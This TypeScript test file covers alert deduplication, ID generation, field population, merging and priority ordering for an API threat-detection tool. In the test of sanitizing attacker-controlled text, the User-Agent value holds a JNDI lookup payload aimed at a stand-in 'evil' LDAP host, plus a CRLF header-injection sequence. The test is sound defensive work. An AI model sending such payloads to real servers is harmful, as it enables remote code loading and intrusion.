import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import fc from 'fast-check';

import {
  alertId,
  comparePriority,
  dedupeKey,
  mergeFinding,
  newAlert,
  PRODUCT_NAME,
  type Alert,
} from '../../../shared/core/alerts/alert';
import { makeEndpoint } from '../../../shared/core/requestEvent';
import { APIM_ID, findingOf, MINUTE, ORDERS, spikeFinding, T0, UNMATCHED, USERS, WINDOW } from './helpers';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const SAFE_KEY = /^API_[A-Za-z]+(\.(request|response))?~[0-9a-f]{32}$/;

describe('dedupeKey', () => {
  test('is equal for repeats that differ only in time, measurement and evidence', () => {
    const first = spikeFinding();
    const repeat = spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW, observed: 9000, score: 12, evidence: { other: 1 } });
    assert.equal(dedupeKey(first), dedupeKey(repeat));
  });

  test('differs across client IPs, endpoints and status codes for a status-keyed type', () => {
    const base = dedupeKey(spikeFinding());
    assert.notEqual(dedupeKey(spikeFinding({ entities: { clientIp: '203.0.113.8', endpoint: ORDERS, status: 200 } })), base);
    assert.notEqual(dedupeKey(spikeFinding({ entities: { clientIp: '203.0.113.7', endpoint: USERS, status: 200 } })), base);
    assert.notEqual(dedupeKey(spikeFinding({ entities: { clientIp: '203.0.113.7', endpoint: ORDERS, status: 404 } })), base);
  });

  test('differs across parameters for the parameter detections', () => {
    for (const type of ['API_ParameterEnumeration', 'API_DistributedParameterEnumeration', 'API_UnseenParam', 'API_UnseenParamType'] as const) {
      const a = findingOf(type, { entities: { clientIp: '203.0.113.7', endpoint: ORDERS, parameterName: 'orderId' } });
      const b = findingOf(type, { entities: { clientIp: '203.0.113.7', endpoint: ORDERS, parameterName: 'customerId' } });
      assert.notEqual(dedupeKey(a), dedupeKey(b), type);
    }
  });

  test('differs between the request and response payload variants', () => {
    const request = findingOf('API_SpikeInPayload', { variant: 'request' });
    const response = findingOf('API_SpikeInPayload', { variant: 'response' });
    assert.notEqual(dedupeKey(request), dedupeKey(response));
    assert.match(dedupeKey(request), /^API_SpikeInPayload\.request~/);
    assert.equal(dedupeKey(findingOf('API_SpikeInPayload')), dedupeKey(response));
  });

  test('differs across alert types on the same entities', () => {
    assert.notEqual(dedupeKey(findingOf('API_AccessFromTorExitNode')), dedupeKey(findingOf('API_AccessFromSuspiciousIP')));
  });

  test('ignores status where the detection is not keyed by status', () => {
    const a = findingOf('API_ParameterEnumeration', { entities: { clientIp: '203.0.113.7', endpoint: ORDERS, parameterName: 'id', status: 200 } });
    const b = findingOf('API_ParameterEnumeration', { entities: { clientIp: '203.0.113.7', endpoint: ORDERS, parameterName: 'id', status: 404 } });
    assert.equal(dedupeKey(a), dedupeKey(b));
  });

  test('keys IP-only detections by the client IP alone, whatever endpoint the request hit', () => {
    for (const type of ['API_AccessFromTorExitNode', 'API_AccessFromSuspiciousIP', 'API_SprayInRequests', 'API_AccessToUnknownEndpoints'] as const) {
      const a = findingOf(type, { entities: { clientIp: '198.51.100.1', endpoint: ORDERS } });
      const b = findingOf(type, { entities: { clientIp: '198.51.100.1', endpoint: USERS } });
      const c = findingOf(type, { entities: { clientIp: '198.51.100.2', endpoint: ORDERS } });
      assert.equal(dedupeKey(a), dedupeKey(b), type);
      assert.notEqual(dedupeKey(a), dedupeKey(c), type);
    }
  });

  test('treats spellings of the same IPv6 address as one client', () => {
    const a = spikeFinding({ entities: { clientIp: '2001:db8::1', endpoint: ORDERS, status: 200 } });
    const b = spikeFinding({ entities: { clientIp: '2001:DB8:0:0:0:0:0:1', endpoint: ORDERS, status: 200 } });
    assert.equal(dedupeKey(a), dedupeKey(b));
  });

  test('is bounded and safe as a Table Storage key whatever the User-Agent or path holds', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), fc.string({ maxLength: 500 }), (userAgent, path) => {
        const endpoint = makeEndpoint({ service: 's', apiId: '', operationId: '', pathTemplate: `GET ${path}` });
        const key = dedupeKey(findingOf('API_AccessFromSuspiciousUserAgent', { entities: { clientIp: '1.2.3.4', endpoint, userAgent } }));
        assert.match(key, SAFE_KEY);
        const other = dedupeKey(findingOf('API_UnseenParam', { entities: { clientIp: '1.2.3.4', endpoint, parameterName: userAgent } }));
        assert.match(other, SAFE_KEY);
      }),
    );
  });
});

describe('alertId', () => {
  test('is deterministic and UUID-shaped', () => {
    const key = dedupeKey(spikeFinding());
    assert.equal(alertId(key, T0), alertId(key, T0));
    assert.equal(alertId(key, T0), alertId(key, new Date(T0)));
    assert.equal(alertId(key, T0), alertId(key, new Date(T0).toISOString()));
    assert.match(alertId(key, T0), UUID);
  });

  test('differs for another key or another first-finding time', () => {
    const key = dedupeKey(spikeFinding());
    const otherKey = dedupeKey(spikeFinding({ entities: { clientIp: '203.0.113.9', endpoint: ORDERS, status: 200 } }));
    assert.notEqual(alertId(key, T0), alertId(otherKey, T0));
    assert.notEqual(alertId(key, T0), alertId(key, T0 + 1));
  });

  test('rejects an invalid time', () => {
    assert.throws(() => alertId('k', Number.NaN), RangeError);
  });

  test('a replay of the same findings yields the same alert', () => {
    const build = (): Alert => {
      let alert = newAlert(spikeFinding(), { detectedAt: new Date(T0 + WINDOW + MINUTE), azureResourceId: APIM_ID });
      alert = mergeFinding(alert, spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW, score: 5 }));
      return alert;
    };
    assert.deepEqual(build(), build());
  });
});

describe('newAlert', () => {
  const detectedAt = new Date(T0 + WINDOW + 5 * MINUTE);

  test('fills Defender\'s fields from the catalog and the finding', () => {
    const alert = newAlert(spikeFinding(), { detectedAt, azureResourceId: APIM_ID });
    assert.equal(alert.alertType, 'API_SpikeInAPITraffic');
    assert.equal(alert.alertDisplayName, 'Suspicious spike in API traffic from a single IP address to an API endpoint');
    assert.equal(alert.severity, 'Medium');
    assert.equal(alert.status, 'Active');
    assert.equal(alert.intent, 'Impact');
    assert.deepEqual(alert.tactics, ['Impact']);
    assert.equal(alert.startTimeUtc, '2025-03-01T10:00:00.000Z');
    assert.equal(alert.endTimeUtc, '2025-03-01T10:20:00.000Z');
    assert.equal(alert.timeGeneratedUtc, '2025-03-01T10:25:00.000Z');
    assert.equal(alert.firstFindingTime, alert.startTimeUtc);
    assert.equal(alert.lastFindingTime, alert.startTimeUtc);
    assert.equal(alert.count, 1);
    assert.equal(alert.score, 3.5);
    assert.equal(alert.productName, PRODUCT_NAME);
    assert.equal(alert.vendorName, 'API Warden');
    assert.equal(alert.azureResourceId, APIM_ID);
    assert.equal(alert.compromisedEntity, 'contoso-apim/orders-api/get-order');
    assert.equal(alert.isSample, false);
    assert.equal(alert.suppression, undefined);
    assert.equal(alert.systemAlertId, alertId(alert.dedupeKey, T0));
  });

  test('names the IP, the endpoint and the APIM service as Defender-style entities', () => {
    const alert = newAlert(spikeFinding(), { detectedAt, azureResourceId: APIM_ID });
    assert.deepEqual(alert.entities, [
      { $id: '1', type: 'ip', address: '203.0.113.7' },
      {
        $id: '2',
        type: 'api-endpoint',
        displayName: 'contoso-apim/orders-api/get-order',
        endpointKey: ORDERS.key,
        service: 'contoso-apim',
        apiId: 'orders-api',
        operationId: 'get-order',
        resourceId: `${APIM_ID}/apis/orders-api/operations/get-order`,
      },
      { $id: '3', type: 'azure-resource', resourceId: APIM_ID, resourceType: 'API Management service', resourceName: 'contoso-apim' },
    ]);
  });

  test('leaves out the APIM resource when its id is unknown', () => {
    const alert = newAlert(spikeFinding(), { detectedAt });
    assert.equal(alert.azureResourceId, undefined);
    assert.deepEqual(alert.entities.map((entity) => entity.type), ['ip', 'api-endpoint']);
    assert.equal(alert.entities.some((entity) => entity.type === 'api-endpoint' && entity.resourceId !== undefined), false);
  });

  test('does not derive an operation resource id from another service\'s resource id', () => {
    const endpoint = makeEndpoint({ service: 'fabrikam-apim', apiId: 'a', operationId: 'o', pathTemplate: '' });
    const alert = newAlert(spikeFinding({ entities: { clientIp: '203.0.113.7', endpoint, status: 200 } }), { detectedAt, azureResourceId: APIM_ID });
    const entity = alert.entities.find((e) => e.type === 'api-endpoint');
    assert.ok(entity !== undefined && entity.type === 'api-endpoint');
    assert.equal(entity.resourceId, undefined);
  });

  test('describes an unmatched endpoint by its path template', () => {
    const alert = newAlert(findingOf('API_AccessToUnknownEndpoints', { entities: { clientIp: '198.51.100.4', endpoint: UNMATCHED } }), {
      detectedAt,
      azureResourceId: APIM_ID,
    });
    assert.equal(alert.compromisedEntity, 'contoso-apim GET /admin/{id}');
    const entity = alert.entities.find((e) => e.type === 'api-endpoint');
    assert.ok(entity !== undefined && entity.type === 'api-endpoint');
    assert.equal(entity.pathTemplate, 'GET /admin/{id}');
    assert.equal(entity.resourceId, undefined);
  });

  test('falls back to the APIM service, then the client IP, as the compromised entity', () => {
    const spray = findingOf('API_SprayInRequests', { entities: { clientIp: '198.51.100.4' } });
    assert.equal(newAlert(spray, { detectedAt, azureResourceId: APIM_ID }).compromisedEntity, 'contoso-apim');
    assert.equal(newAlert(spray, { detectedAt }).compromisedEntity, '198.51.100.4');
  });

  test('writes the description from the finding: IP, endpoint, observed with its unit, baseline, window', () => {
    const alert = newAlert(spikeFinding(), { detectedAt });
    assert.match(alert.description, /203\.0\.113\.7/);
    assert.match(alert.description, /contoso-apim\/orders-api\/get-order/);
    assert.match(alert.description, /1200 requests/);
    assert.match(alert.description, /median 40, p99 150, windows 2160/);
    assert.match(alert.description, /HTTP 200/);
    assert.match(alert.description, /2025-03-01T10:00:00\.000Z and 2025-03-01T10:20:00\.000Z/);
    assert.ok(alert.remediationSteps.some((step) => step.includes('Block 203.0.113.7')));
  });

  test('uses the variant\'s wording for payload spikes', () => {
    const request = newAlert(findingOf('API_SpikeInPayload', { variant: 'request', observed: 5_000_000 }), { detectedAt });
    const response = newAlert(findingOf('API_SpikeInPayload', { variant: 'response', observed: 5_000_000 }), { detectedAt });
    assert.equal(request.variant, 'request');
    assert.equal(response.variant, 'response');
    assert.match(request.alertDisplayName, /request body/);
    assert.match(response.alertDisplayName, /response payload/);
    assert.match(request.description, /5000000 bytes/);
    assert.equal(request.extendedProperties.variant, 'request');
    assert.equal(newAlert(spikeFinding(), { detectedAt }).variant, undefined);
  });

  test('records baseline, observed, score, window, entities and evidence as string extended properties', () => {
    const finding = findingOf('API_ParameterEnumeration', {
      entities: { clientIp: '203.0.113.7', endpoint: ORDERS, parameterName: 'orderId' },
      observed: 480,
      baseline: { p50: 3, p99: 12 },
      score: 4.25,
      evidence: { distinctValues: 480, sketch: false, score: 'collides' },
    });
    const properties = newAlert(finding, { detectedAt }).extendedProperties;
    assert.deepEqual(properties, {
      observed: '480',
      score: '4.25',
      baseline: '{"p50":3,"p99":12}',
      windowStart: '2025-03-01T10:00:00.000Z',
      windowEnd: '2025-03-01T10:20:00.000Z',
      distinctValues: '480',
      sketch: 'false',
      'evidence.score': 'collides',
      clientIp: '203.0.113.7',
      service: 'contoso-apim',
      apiId: 'orders-api',
      operationId: 'get-order',
      endpoint: 'contoso-apim/orders-api/get-order',
      endpointKey: ORDERS.key,
      parameterName: 'orderId',
    });
    for (const value of Object.values(properties)) assert.equal(typeof value, 'string');
  });

  test('gives per-request findings a request time and their source position', () => {
    const finding = findingOf('API_AccessFromTorExitNode', {
      time: T0,
      endTime: T0,
      baseline: undefined,
      observed: 'tor-exit-list',
      score: 1,
      source: { partitionId: '3', sequenceNumber: 42, offset: '100', recordIndex: 1 },
    });
    const alert = newAlert(finding, { detectedAt: new Date(T0) });
    assert.equal(alert.extendedProperties.requestTime, '2025-03-01T10:00:00.000Z');
    assert.equal(alert.extendedProperties.windowStart, undefined);
    assert.equal(alert.extendedProperties.baseline, undefined);
    assert.equal(alert.extendedProperties.source, '3/42/1');
    assert.equal(alert.startTimeUtc, alert.endTimeUtc);
  });

  test('shows attacker-controlled text without control characters and at bounded length', () => {
    const userAgent = `\${jndi:ldap://evil/a}\r\nX-Injected: 1${'A'.repeat(1000)}`;
    const alert = newAlert(findingOf('API_AccessFromSuspiciousUserAgent', { entities: { clientIp: '1.2.3.4', endpoint: ORDERS, userAgent }, observed: 'jndi' }), {
      detectedAt,
    });
    assert.doesNotMatch(alert.description, /[\r\n]/);
    assert.ok(alert.description.length < 1000);
    assert.match(alert.description, /jndi:ldap/);
    assert.equal(alert.extendedProperties.userAgent, userAgent);
  });

  test('marks sample alerts', () => {
    assert.equal(newAlert(spikeFinding(), { detectedAt, isSample: true }).isSample, true);
  });

  test('keeps the finding\'s entities for suppression and filters, as a copy', () => {
    const finding = spikeFinding();
    const alert = newAlert(finding, { detectedAt });
    assert.deepEqual(alert.keyEntities, finding.entities);
    assert.notEqual(alert.keyEntities, finding.entities);
    assert.notEqual(alert.keyEntities.endpoint, finding.entities.endpoint);
  });
});

describe('mergeFinding', () => {
  const context = { detectedAt: new Date(T0 + WINDOW), azureResourceId: APIM_ID };

  test('counts the repeat and extends the end time', () => {
    const alert = newAlert(spikeFinding(), context);
    const merged = mergeFinding(alert, spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW, score: 2 }));
    assert.equal(merged.count, 2);
    assert.equal(merged.startTimeUtc, '2025-03-01T10:00:00.000Z');
    assert.equal(merged.endTimeUtc, '2025-03-01T10:40:00.000Z');
    assert.equal(merged.firstFindingTime, '2025-03-01T10:00:00.000Z');
    assert.equal(merged.lastFindingTime, '2025-03-01T10:20:00.000Z');
    assert.equal(merged.systemAlertId, alert.systemAlertId);
    assert.equal(merged.timeGeneratedUtc, alert.timeGeneratedUtc);
  });

  test('handles a repeat that arrives out of order', () => {
    const alert = newAlert(spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW }), context);
    const merged = mergeFinding(alert, spikeFinding({ time: T0, endTime: T0 + WINDOW, score: 1 }));
    assert.equal(merged.startTimeUtc, '2025-03-01T10:00:00.000Z');
    assert.equal(merged.endTimeUtc, '2025-03-01T10:40:00.000Z');
    assert.equal(merged.firstFindingTime, '2025-03-01T10:00:00.000Z');
    assert.equal(merged.lastFindingTime, '2025-03-01T10:20:00.000Z');
    assert.equal(merged.systemAlertId, alert.systemAlertId);
  });

  test('keeps the strongest finding\'s score, observed value, baseline and description', () => {
    const alert = newAlert(spikeFinding({ score: 3, observed: 1000 }), context);
    const stronger = mergeFinding(alert, spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW, score: 9, observed: 5000, baseline: { median: 41 }, evidence: { threshold: 310 } }));
    assert.equal(stronger.score, 9);
    assert.equal(stronger.extendedProperties.observed, '5000');
    assert.equal(stronger.extendedProperties.score, '9');
    assert.equal(stronger.extendedProperties.baseline, '{"median":41}');
    assert.equal(stronger.extendedProperties.threshold, '310');
    assert.equal(stronger.extendedProperties.windowStart, '2025-03-01T10:20:00.000Z');
    assert.equal(stronger.extendedProperties.clientIp, '203.0.113.7');
    assert.match(stronger.description, /5000 requests/);

    const weaker = mergeFinding(stronger, spikeFinding({ time: T0 + 2 * WINDOW, endTime: T0 + 3 * WINDOW, score: 2, observed: 700 }));
    assert.equal(weaker.score, 9);
    assert.equal(weaker.extendedProperties.observed, '5000');
    assert.equal(weaker.description, stronger.description);
    assert.equal(weaker.count, 3);
  });

  test('does not modify the alert it is given', () => {
    const alert = newAlert(spikeFinding(), context);
    const before = structuredClone(alert);
    mergeFinding(alert, spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW, score: 10, observed: 1 }));
    assert.deepEqual(alert, before);
  });

  test('never reopens a dismissed or resolved alert', () => {
    for (const status of ['Dismissed', 'Resolved', 'InProgress'] as const) {
      const alert: Alert = { ...newAlert(spikeFinding(), context), status };
      const merged = mergeFinding(alert, spikeFinding({ time: T0 + WINDOW, endTime: T0 + 2 * WINDOW }));
      assert.equal(merged.status, status);
      assert.equal(merged.count, 2);
    }
  });

  test('keeps the suppression record', () => {
    const alert: Alert = {
      ...newAlert(spikeFinding(), context),
      status: 'Dismissed',
      suppression: { ruleId: 'r1', reason: 'load test', suppressedAtUtc: '2025-03-01T10:20:00.000Z' },
    };
    assert.deepEqual(mergeFinding(alert, spikeFinding({ time: T0 + WINDOW })).suppression, alert.suppression);
  });

  test('rejects a finding that belongs to another alert', () => {
    const alert = newAlert(spikeFinding(), context);
    assert.throws(() => mergeFinding(alert, spikeFinding({ entities: { clientIp: '198.51.100.1', endpoint: ORDERS, status: 200 } })), RangeError);
  });
});

describe('comparePriority', () => {
  const at = (minutes: number): Date => new Date(T0 + minutes * MINUTE);
  const make = (type: Parameters<typeof findingOf>[0], ip: string, score: number, endMinute: number): Alert =>
    newAlert(findingOf(type, { entities: { clientIp: ip, endpoint: ORDERS, status: 200 }, score, time: T0, endTime: T0 + endMinute * MINUTE }), {
      detectedAt: at(endMinute),
    });

  test('puts higher severity first, whatever the score', () => {
    const high = make('API_AccessFromSuspiciousIP', '1.1.1.1', 1, 1);
    const medium = make('API_SpikeInAPITraffic', '1.1.1.2', 50, 30);
    const low = make('API_AccessToUnknownEndpoints', '1.1.1.3', 99, 40);
    assert.deepEqual([low, medium, high].sort((a, b) => comparePriority(a, b)).map((a) => a.severity), ['High', 'Medium', 'Low']);
  });

  test('then more exposed endpoints first', () => {
    const internal = make('API_SpikeInAPITraffic', '1.1.1.1', 9, 30);
    const exposed = make('API_SpikeInAPITraffic', '1.1.1.2', 2, 10);
    const exposure = (alert: Alert): number => (alert === exposed ? 2 : 0);
    assert.deepEqual([internal, exposed].sort((a, b) => comparePriority(a, b, exposure)), [exposed, internal]);
    assert.deepEqual([internal, exposed].sort((a, b) => comparePriority(a, b)), [internal, exposed]);
  });

  test('then higher score, then the more recent', () => {
    const strong = make('API_SpikeInAPITraffic', '1.1.1.1', 8, 10);
    const weakRecent = make('API_SpikeInAPITraffic', '1.1.1.2', 2, 50);
    const weakOld = make('API_SpikeInAPITraffic', '1.1.1.3', 2, 20);
    assert.deepEqual([weakOld, weakRecent, strong].sort((a, b) => comparePriority(a, b)), [strong, weakRecent, weakOld]);
  });

  test('breaks complete ties by id, so the order does not depend on input order', () => {
    const a = make('API_SpikeInAPITraffic', '1.1.1.1', 2, 20);
    const b = make('API_SpikeInAPITraffic', '1.1.1.2', 2, 20);
    assert.notEqual(a.systemAlertId, b.systemAlertId);
    const forward = [a, b].sort((x, y) => comparePriority(x, y));
    const backward = [b, a].sort((x, y) => comparePriority(x, y));
    assert.deepEqual(forward, backward);
    assert.equal(comparePriority(a, a), 0);
  });

  test('treats a missing or non-finite exposure as 0', () => {
    const a = make('API_SpikeInAPITraffic', '1.1.1.1', 2, 20);
    const b = make('API_SpikeInAPITraffic', '1.1.1.2', 1, 20);
    assert.ok(comparePriority(a, b, () => Number.NaN) < 0);
  });

  test('is a total order: antisymmetric and transitive over random alerts', () => {
    const types = ['API_AccessFromSuspiciousIP', 'API_SpikeInAPITraffic', 'API_AccessToUnknownEndpoints'] as const;
    const alertArb = fc
      .record({
        type: fc.constantFrom(...types),
        ip: fc.integer({ min: 1, max: 20 }),
        score: fc.constantFrom(1, 2, 3),
        end: fc.integer({ min: 1, max: 3 }),
      })
      .map(({ type, ip, score, end }) => make(type, `10.0.0.${ip}`, score, end * 10));
    const exposure = (alert: Alert): number => (alert.keyEntities.clientIp?.endsWith('1') === true ? 1 : 0);
    fc.assert(
      fc.property(alertArb, alertArb, alertArb, (a, b, c) => {
        const ab = comparePriority(a, b, exposure);
        assert.equal(Math.sign(ab) + Math.sign(comparePriority(b, a, exposure)), 0);
        if (ab <= 0 && comparePriority(b, c, exposure) <= 0) assert.ok(comparePriority(a, c, exposure) <= 0);
        if (ab === 0) assert.equal(a.systemAlertId, b.systemAlertId);
      }),
    );
  });
});
